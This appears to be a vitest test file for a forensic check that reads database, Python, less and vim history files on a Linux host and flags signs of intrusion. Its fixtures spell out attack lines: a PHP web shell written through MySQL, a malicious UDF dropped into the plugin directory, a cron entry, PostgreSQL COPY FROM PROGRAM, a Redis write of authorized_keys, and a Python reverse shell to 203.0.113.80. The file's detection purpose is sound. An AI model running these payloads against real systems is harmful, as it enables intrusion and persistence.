import { expect, test } from 'vitest';
import { programHistories } from '../../source/checks/program-histories.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { sweep } from '../support/sweep-host.ts';

const passwd = 'root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nanna:x:1000:1000::/home/anna:/bin/bash\n';
const ask = (machine: Machine) => [...sweep(programHistories, memoryHost({ '/etc/passwd': passwd, ...machine }))];
const inWords = (machine: Machine): readonly string[] => ask(machine).map(({ severity, summary }) => `${severity} ${summary}`);
const mysql = (...lines: readonly string[]): Machine => ({ '/root/.mysql_history': `${['show databases;', ...lines].join('\n')}\n` });
const vim = (path: string, home = '/root', uid = 0): Machine => ({ [`${home}/.viminfo`]: { content: `# Vim\n'0  3  1  ${path}\n|4,48,3,1,1709280000,"${path}"\n`, uid } });

test('what administrators do every day is nothing of medium or above', () => {
	const findings = inWords({
		...mysql('use shop', "select * from orders into outfile '/var/lib/mysql-files/orders.csv';", "select concat('kill ',id,';') from information_schema.processlist into outfile '/tmp/kill.sql';", "create function fnv_64 returns integer soname 'libfnv_udf.so';", "install plugin validate_password soname 'validate_password.so';"),
		...vim('~/.ssh/authorized_keys', '/home/anna', 1000),
		...vim('/etc/shadow'),
	});
	expect(findings.toSorted()).toEqual(['info MySQL was told to write rows to a file', 'info vim opened a list of keys that let people in', 'low MySQL was given a function out of a library', 'low vim opened the password hashes']);
	expect(inWords({ ...vim('/etc/nginx/nginx.conf'), '/home/anna/.mysql_history': '', '/home/anna/sys_exec.sql': "select sys_exec('id');" })).toEqual([]);
});

test.each([
	["select '<?php system($_GET[0]);' into outfile '/var/www/html/x.php';", 'MySQL was told to write a file where it is run or lets somebody in'],
	["select unhex('7f454c46') into dumpfile '/usr/lib/mysql/plugin/u.so';", 'MySQL was told to write a file where it is run or lets somebody in'],
	["select '* * * * * root id' into outfile '/etc/cron.d/x';", 'MySQL was told to write a file where it is run or lets somebody in'],
	["create function sys_exec returns integer soname 'u.so';", 'MySQL was given a function that runs commands of the system, out of a library'],
	["select sys_exec('id > /tmp/o');", 'MySQL was told to run commands of the system, by a function that does nothing else'],
])('%s', (line, words) => {
	expect(inWords(mysql(line))).toEqual([`medium ${words}`]);
});

test('a preload list that vim opened, with when; and keys, by the account of a service', () => {
	expect(ask(vim('/etc/ld.so.preload'))).toMatchObject([{ severity: 'medium', subject: { path: '/root/.viminfo' }, facts: { count: 2, 'at-line': 3, when: '2024-03-01T08:00:00Z' }, techniques: ['T1574.006'] }]);
	expect(inWords(vim('/home/anna/.ssh/authorized_keys', '/var/www', 33))).toEqual(['medium vim, run by the account of a service, opened a list of keys that let people in']);
});

test('one finding for each kind, with how often', () => {
	expect(ask(mysql("select sys_exec('a');", "select sys_exec('b');"))).toMatchObject([{ facts: { count: 2, 'at-line': 2, line: "select sys_exec('a');" } }]);
});

test('a shell on a connection, typed into Python', () => {
	const line = 's=socket.create_connection(("203.0.113.80",9001));[os.dup2(s.fileno(),i) for i in range(3)];pty.spawn("sh")';
	expect(inWords({ '/home/anna/.python_history': `import socket,pty,os\n${line}\nprint(1)\n` })).toEqual(['medium Python was told to join a shell to the network']);
	expect(inWords({ '/home/anna/.python_history': 'import socket\nsocket.gethostname()\nimport subprocess\nsubprocess.run(["ls"])\n' })).toEqual([]);
});

test('commands run by databases and by less', () => {
	expect(inWords({ '/var/lib/postgresql/.psql_history': "COPY t FROM PROGRAM 'id';\nCREATE FUNCTION s(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT;\nselect lo_export(1,'/tmp/x.so');\n" }).toSorted()).toEqual(['medium PostgreSQL was told to run commands of the system', 'medium PostgreSQL was told to write a file where it is run or lets somebody in']);
	expect(inWords({ '/root/.rediscli_history': 'config set dir /root/.ssh/\nconfig set dbfilename "authorized_keys"\nsave\n' })).toEqual(['medium Redis was told to write its data where they are run or let somebody in']);
	expect(inWords({ '/root/.lesshst': '.less-history-file:\n.search\n"password\n.shell\n"chmod 6755 /var/lib/x\n' })).toEqual(['medium less was used to run a command that makes a program of root, or fetches one']);
	expect(inWords({ '/root/.psql_history': "COPY t FROM '/srv/in.csv';\nCOPY t FROM PROGRAM 'zcat /srv/t.csv.gz | tail -n +2' CSV;\nselect lo_export(1,'/srv/a.pdf');\n", '/root/.rediscli_history': 'config get dir\nconfig set dir /var/lib/redis\n', '/root/.lesshst': '.search\n"chmod\n' })).toEqual([]);
});
